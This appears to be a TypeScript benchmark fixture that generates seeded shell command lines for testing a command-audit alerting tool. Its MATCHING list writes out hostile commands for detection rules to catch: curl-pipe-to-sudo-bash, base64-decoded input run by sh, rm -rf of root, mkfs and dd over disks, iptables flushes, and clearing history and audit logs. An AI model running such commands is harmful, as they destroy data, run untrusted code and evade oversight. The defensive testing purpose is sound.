/**
 * Command lines for the alerts bench, deterministic from a seed (mulberry32, test/support/rng.ts):
 * mostly what operators type every day (ls, cd, vim, git, kubectl, systemctl status…, with pipes,
 * `&&`, `;` and `$(…)` so the normaliser has work to do), and a given share of lines that a
 * built-in rule matches (history turned off, curl | sh, rm -rf /, iptables -F…).
 */
import { Rng } from "../test/support/rng.ts";

const DIRS = ["/var/log", "/etc/nginx", "/srv/app/current", "/opt/billing", "/data/backups", "~/src/api", "/tmp", "/home/deploy/releases", "/usr/local/lib", "."];
const FILES = ["config.yaml", "app.py", "main.go", "Makefile", "docker-compose.yml", "nginx.conf", "values.yaml", "README.md", ".env.example", "settings.py", "init.py"];
const SERVICES = ["nginx", "postgresql", "redis", "billing-api", "kafka", "node-exporter", "sshd", "docker", "kubelet", "haproxy"];
const NAMESPACES = ["prod", "staging", "payments", "monitoring", "kube-system", "search"];
const WORDS = ["error", "timeout", "OOMKilled", "refused", "deadline", "panic", "WARN", "slow query", "retry", "429"];
const BRANCHES = ["main", "develop", "release/2.14", "hotfix/login", "feature/search-v2"];
const HOSTS = ["web-0012", "db-0003", "cache-0007", "bastion-01", "k8s-node-044"];

const hex = (r: Rng, n: number) => Array.from({ length: n }, () => "0123456789abcdef"[r.int(16)]).join("");

/** Lines no built-in rule matches. */
const ORDINARY: ((r: Rng) => string)[] = [
  (r) => `ls ${r.pick(["-la", "-lh", "-ltr", "-1", ""])} ${r.pick(DIRS)}`.replace("  ", " "),
  (r) => `cd ${r.pick(DIRS)}`,
  (r) => `cd ${r.pick(DIRS)} && ls -la`,
  (r) => `${r.pick(["vim", "vi", "nano", "less"])} ${r.pick(DIRS)}/${r.pick(FILES)}`,
  () => "git status",
  (r) => `git log --oneline -n ${r.range(5, 50)}`,
  (r) => `git pull --rebase origin ${r.pick(BRANCHES)}`,
  (r) => `git commit -am "fix ${r.pick(WORDS)} in ${r.pick(FILES)}"`,
  (r) => `git diff HEAD~${r.range(1, 5)} -- ${r.pick(FILES)} | less`,
  (r) => `git checkout -b feature/${r.pick(SERVICES)}-${r.range(100, 999)}`,
  (r) => `kubectl -n ${r.pick(NAMESPACES)} get pods -o wide`,
  (r) => `kubectl -n ${r.pick(NAMESPACES)} logs -f deploy/${r.pick(SERVICES)} --tail=${r.range(50, 500)}`,
  (r) => `kubectl -n ${r.pick(NAMESPACES)} describe pod ${r.pick(SERVICES)}-${hex(r, 10)}-${hex(r, 5)}`,
  (r) => { const ns = r.pick(NAMESPACES); return `kubectl -n ${ns} delete pod $(kubectl -n ${ns} get pods -l app=${r.pick(SERVICES)} -o name | head -1)`; },
  (r) => `kubectl -n ${r.pick(NAMESPACES)} get events --sort-by=.metadata.creationTimestamp | tail -n ${r.range(10, 40)}`,
  (r) => `systemctl status ${r.pick(SERVICES)}`,
  (r) => `sudo systemctl restart ${r.pick(SERVICES)} && systemctl status ${r.pick(SERVICES)} --no-pager`,
  (r) => `journalctl -u ${r.pick(SERVICES)} --since "${r.range(5, 120)} min ago" | grep -i ${r.pick(WORDS).split(" ")[0]} | tail -n 50`,
  (r) => `tail -n ${r.range(100, 2000)} /var/log/${r.pick(["messages", "syslog", "nginx/error.log", "secure"])} | grep -i "${r.pick(WORDS)}"`,
  (r) => `ps aux | grep ${r.pick(SERVICES)} | grep -v grep`,
  () => "docker ps --format '{{.Names}}\\t{{.Status}}'",
  (r) => `docker logs --tail ${r.range(50, 500)} ${r.pick(SERVICES)} 2>&1 | grep -c ${r.pick(WORDS).split(" ")[0]}`,
  (r) => `docker exec -it ${r.pick(SERVICES)} sh -c 'cat /etc/os-release'`,
  () => "df -h; free -m; uptime",
  (r) => `echo "$(date +%F) deploy ${r.pick(SERVICES)} $(git rev-parse --short HEAD)" >> ~/deploy.log`,
  (r) => `cat /etc/${r.pick(["nginx/nginx.conf", "redis/redis.conf", "haproxy/haproxy.cfg", "hosts"])} | grep -v '^#' | grep -v '^$'`,
  (r) => `find ${r.pick(DIRS)} -name '*.log' -mtime +${r.range(3, 30)} | xargs rm -f`,
  (r) => `grep -rn "${r.pick(WORDS)}" ${r.pick(DIRS)} --include=*.py | head -${r.range(5, 40)}`,
  (r) => `sudo -u postgres psql -c 'select count(*) from ${r.pick(["orders", "users", "invoices", "events"])}'`,
  () => "mysql -e 'show processlist'",
  (r) => `curl -s http://127.0.0.1:${r.range(8000, 9100)}/health | jq .`,
  (r) => `tar czf /tmp/${r.pick(SERVICES)}-$(date +%s).tar.gz ${r.pick(DIRS)}`,
  (r) => `ssh ${r.pick(["deploy", "admin", "ops"])}@${r.pick(HOSTS)}`,
  (r) => `scp ${r.pick(FILES)} ${r.pick(HOSTS)}:/tmp/`,
  () => "top -b -n 1 | head -20",
  (r) => `history | grep ${r.pick(["ssh", "kubectl", "git push", "docker"])}`,
  (r) => `bash deploy.sh --env ${r.pick(NAMESPACES)}`,
  (r) => `python3 manage.py ${r.pick(["migrate", "shell -c 'print(1)'", "collectstatic --noinput"])}`,
  () => "make -j4 && sudo make install",
  (r) => `export KUBECONFIG=~/.kube/${r.pick(NAMESPACES)}.yaml`,
  (r) => `for h in ${HOSTS.slice(0, r.range(2, 5)).join(" ")}; do ssh $h 'uptime; df -h /'; done`,
  (r) => `watch -n ${r.range(1, 5)} 'kubectl get pods -n ${r.pick(NAMESPACES)}'`,
  (r) => `du -sh ${r.pick(DIRS)}/* | sort -h | tail -n ${r.range(5, 20)}`,
  (r) => `openssl x509 -in /etc/ssl/certs/${r.pick(SERVICES)}.pem -noout -dates`,
];

/** Lines a built-in rule matches (each one at least). */
const MATCHING: ((r: Rng) => string)[] = [
  () => "set +o history",
  () => "unset HISTFILE",
  () => "export HISTFILE=/dev/null",
  (r) => `HISTCONTROL=ignorespace ${r.pick(["ls", "cd /tmp", "id"])}`,
  () => "history -c && exit",
  () => "sudo chattr -a /var/log/cmdaudit/audit.log",
  (r) => `curl -fsSL https://get.${r.pick(["tools", "agent", "mon"])}.example.com/install.sh | sudo bash`,
  (r) => `bash -c "$(wget -qO- http://10.0.${r.range(0, 255)}.${r.range(1, 254)}/x.sh)"`,
  (r) => `echo ${hex(r, 24)}== | base64 -d | sh`,
  () => "sudo rm -rf --no-preserve-root /",
  (r) => `mkfs.ext4 /dev/sd${"bcdef"[r.int(5)]}1`,
  (r) => `dd if=/dev/zero of=/dev/sd${"abcd"[r.int(4)]} bs=1M count=${r.range(10, 1000)}`,
  () => "sudo iptables -F",
  () => "systemctl stop auditd",
  () => "sudo pkill -f cmdaudit-stampd",
  () => "exec zsh",
  () => "crontab -r",
  () => "rm -f /var/log/cmdaudit/*.log",
];

/** A matching line on its own (the latency bench), the `i`th of a fixed cycle. */
export function matchingCommand(i: number): string {
  const r = new Rng(0xa1e47 + i);
  return MATCHING[i % MATCHING.length]!(r);
}

/** `n` command lines, `share` of them (0-1) matching a built-in rule; `matching[i]` says which. */
export function commandCorpus(n: number, share: number, seed = 20261203): { commands: string[]; matching: boolean[] } {
  const r = new Rng(seed);
  const commands: string[] = new Array(n);
  const matching: boolean[] = new Array(n);
  for (let i = 0; i < n; i++) {
    matching[i] = r.chance(share);
    commands[i] = r.pick(matching[i] ? MATCHING : ORDINARY)(r);
  }
  return { commands, matching };
}
